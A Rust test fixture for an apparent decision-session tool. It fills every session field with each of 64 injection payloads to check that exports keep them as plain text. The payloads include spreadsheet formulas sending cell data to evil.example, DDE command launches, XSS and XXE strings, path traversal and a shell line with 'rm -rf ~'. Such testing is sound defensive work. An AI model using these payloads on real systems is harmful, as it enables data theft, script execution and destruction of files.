//! What somebody may type who means harm, or only means what they type: every format has to carry
//! it as text.

use std::collections::BTreeMap;

use weighbridge::session::{
    AgendaItem, Ballot, Edit, Entry, Event, Field, FollowUp, Item, MustHave, Note, Pair, Parked,
    Participant, Points, RecordField, Session, Side, Status, Strength,
};

use super::{id, preset};

/// Nearly as long as a text may be, in one word of the widest letter.
const LONG: &str = match std::str::from_utf8(&[b'W'; 19_000]) {
    Ok(text) => text,
    Err(_) => "",
};

/// What it is, and what is typed.
pub const PAYLOADS: [(&str, &str); 64] = [
    ("formula", "=1+1"),
    ("formula, plus", "+1+cmd|' /C calc'!A0"),
    ("formula, minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula, at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula, DDE", "=cmd|' /C calc'!'A1'"),
    ("formula, link", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("formula, web service", "=WEBSERVICE(\"http://evil.example/\"&B2)"),
    ("formula, import", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
    ("formula, full width", "＝1+1"),
    ("formula, full-width plus", "＋1+1"),
    ("formula, full-width minus", "－1+1"),
    ("formula, full-width at", "＠SUM(1)"),
    ("formula behind a tab", "\t=1+1"),
    ("formula behind a carriage return", "\r=1+1"),
    ("formula behind a line feed", "\n=1+1"),
    ("formula behind a NUL", "\0=1+1"),
    ("formula behind a space", "  =1+1"),
    ("formula behind a guard", "'=1+1"),
    ("formula behind quotes", "\"=1+1\""),
    ("formula after a delimiter", "x\",=1+1,\"y;=1+1;z\t=1+1"),
    ("array formula", "{=SUM(A1:A9)}"),
    ("quotes and lines", "say \"yes\",\r\n\"no\"\n,,,"),
    ("workbook escape", "_x003D_1+1 _x000D_"),
    ("web address", "https://evil.example/a?b=c&d=e"),
    ("mail address", "mailto:evil@evil.example"),
    ("file address", "file:///etc/passwd"),
    ("HTML script", "<script>alert(1)</script>"),
    ("HTML end of script", "</script><script>alert(1)</script>"),
    ("HTML image", "<img src=x onerror=alert(1)>"),
    ("HTML SVG", "<svg/onload=alert(1)>"),
    ("HTML attribute", "\" onmouseover=\"alert(1)\" x=\""),
    ("HTML attribute, single", "' onfocus='alert(1)' autofocus='"),
    ("HTML style", "</style><style>*{display:none}</style>"),
    ("HTML title", "</title></head><body onload=alert(1)>"),
    ("HTML comment", "<!-- --><b>x</b><!--"),
    ("HTML frame", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("script address", "javascript:alert(1)"),
    ("data address", "data:text/html,<script>alert(1)</script>"),
    ("XML entity", "&lt;b&gt; &amp;amp; &#x3c; <!ENTITY x SYSTEM \"file:///etc/passwd\"> &x;"),
    ("XML CDATA", "]]><![CDATA[<b>x</b>]]>"),
    ("Markdown heading", "# Heading\n\n## Status\n\nAccepted"),
    ("Markdown front matter", "---\nstatus: accepted\n---\n"),
    ("Markdown setext", "Status\n======\n\nAccepted\n------"),
    ("Markdown table", "a | b\n--|--\n| c | d |"),
    ("Markdown link", "[here](javascript:alert(1)) [there][x]\n\n[x]: http://evil.example"),
    ("Markdown image", "![x](http://evil.example/x.png)"),
    ("Markdown autolink", "<http://evil.example> www.evil.example evil@evil.example"),
    ("Markdown list", "* one\n+ two\n1. three\n- [ ] four"),
    ("Markdown emphasis", "**a** _b_ ~~c~~ `d` ***"),
    ("Markdown fence", "```\ncode\n~~~"),
    ("Mermaid", "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```"),
    ("template", "{{ 7*7 }} {% include \"/etc/passwd\" %} {# x #}"),
    ("template, other", "${7*7} #{7*7} <%= 7*7 %> %s%n {0}"),
    ("PDF operators", ") Tj ET Q BT /F1 99 Tf (x) Tj \\) \\( %%EOF endstream endobj"),
    ("bidirectional", "\u{202e}desrever\u{2066}x\u{2069}\u{200f}"),
    ("zero width", "a\u{200b}b\u{200d}c\u{feff}d\u{ad}"),
    ("control characters", "a\u{1}\u{7}\u{8}\u{b}\u{c}\u{7f}\u{85}b\u{fffe}\u{ffff}"),
    ("terminal escape", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m"),
    ("path", "../../../../etc/passwd"),
    ("path, Windows", "C:\\Windows\\..\\CON .txt:stream"),
    ("shell", "$(touch /tmp/owned) `id` ; rm -rf ~ | & > x"),
    ("every plane", "漢字かな 한글 عربى עברית ไทย 👩‍👩‍👧‍👦 e\u{301}\u{301}\u{301} ﷽ 𝕎"),
    ("very long", LONG),
    ("NUL alone", "\0"),
];

/// A session that says this in every text it has: decided and revealed, so that every report tells
/// all of it.
pub fn everywhere(payload: &str) -> Session {
    let mut session = preset("early-saas");
    let text = || payload.to_owned();
    let apply = |session: &mut Session, edit| {
        session.apply(edit).expect("an edit");
    };
    for item in items(&session, payload) {
        apply(&mut session, Edit::Insert(usize::MAX, item));
    }
    for field in fields(&session) {
        apply(&mut session, Edit::Write(field, text()));
    }
    round(&mut session, payload);
    let at = "2026-11-22T14:00:00Z".parse().expect("a time");
    let log = |session: &mut Session, event| {
        session.log(Entry { at, event }).expect("logged");
    };
    let criterion = session.criteria[0].id.clone();
    let (ballots, points) = (session.criteria[0].points, Points::clamped(77.0));
    apply(&mut session, Edit::SetPoints(criterion.clone(), points));
    log(&mut session, Event::Overridden { criterion, ballots, points, reason: text() });
    log(&mut session, Event::AgendaStarted { item: id("x"), name: text(), minutes: 5 });
    let agreeing = session.agreeing();
    log(&mut session, agreeing);
    apply(&mut session, Edit::Choose(Some(Side::Left)));
    let day = jiff::civil::date(2026, 11, 22);
    apply(&mut session, Edit::SetStatus(Status::Accepted, Some(day)));
    session
}

/// One of everything that there can be any number of.
fn items(session: &Session, payload: &str) -> Vec<Item> {
    let text = || payload.to_owned();
    let note = |name: &str, criterion| {
        Item::Note(Note {
            id: id(name),
            criterion,
            side: Some(Side::Right),
            author: text(),
            written: "2026-11-22T13:30:00Z".parse().expect("a time"),
            edited: None,
            text: text(),
        })
    };
    let person = |name: &str| {
        Item::Person(Participant {
            id: id(name),
            name: text(),
            role: text(),
            strength: Strength::ONE,
            present: true,
        })
    };
    let due = Some(jiff::civil::date(2026, 12, 4));
    vec![
        note("x-1", None),
        note("x-2", Some(session.criteria[0].id.clone())),
        person("x-1"),
        person("x-2"),
        Item::MustHave(MustHave { id: id("x"), name: text(), outcome: Pair::default() }),
        Item::Agenda(AgendaItem { id: id("x"), name: text(), minutes: 5 }),
        Item::Parked(Parked { id: id("x"), text: text(), done: false }),
        Item::FollowUp(FollowUp { id: id("x"), text: text(), owner: text(), due, done: false }),
    ]
}

/// Every text that a session has by name.
fn fields(session: &Session) -> Vec<Field> {
    let mut fields = vec![Field::Title, Field::Question, Field::Context];
    fields.extend(Side::BOTH.map(Field::SideName));
    for criterion in &session.criteria {
        let id = || criterion.id.clone();
        fields.extend([Field::CriterionName(id()), Field::Definition(id())]);
        fields.extend([Field::Low(id()), Field::High(id())]);
        for side in Side::BOTH {
            fields.extend([Field::Claim(id(), side), Field::Reason(id(), side)]);
        }
    }
    fields.extend(session.brief.must_haves.iter().map(|row| Field::MustHave(row.id.clone())));
    fields.extend(session.agenda.iter().map(|row| Field::AgendaName(row.id.clone())));
    let record = [
        RecordField::Title,
        RecordField::Because,
        RecordField::Good,
        RecordField::Bad,
        RecordField::Dissent,
        RecordField::Deciders,
        RecordField::Consulted,
        RecordField::Informed,
        RecordField::ReviewTrigger,
        RecordField::Supersedes,
        RecordField::SupersededBy,
        RecordField::Confirmation,
    ];
    fields.extend(record.map(Field::Record));
    fields
}

/// A round with a comment on everything.
fn round(session: &mut Session, payload: &str) {
    let at = "2026-11-22T13:40:00Z".parse().expect("a time");
    session.open_round(id("x"), at).expect("opened");
    let people: Vec<_> = session.people.iter().map(|person| person.id.clone()).collect();
    for (n, person) in people.into_iter().enumerate() {
        let points = session.criteria.iter().map(|c| (c.id.clone(), c.points));
        let mut ballot = Ballot::new(person.clone(), points.collect::<BTreeMap<_, _>>());
        let comments = session.criteria.iter().map(|c| (c.id.clone(), payload.to_owned()));
        ballot.comments = comments.collect();
        session.cast(&person, id(&format!("x-slip-{n}")), ballot).expect("cast");
    }
    session.reveal(at).expect("revealed");
}
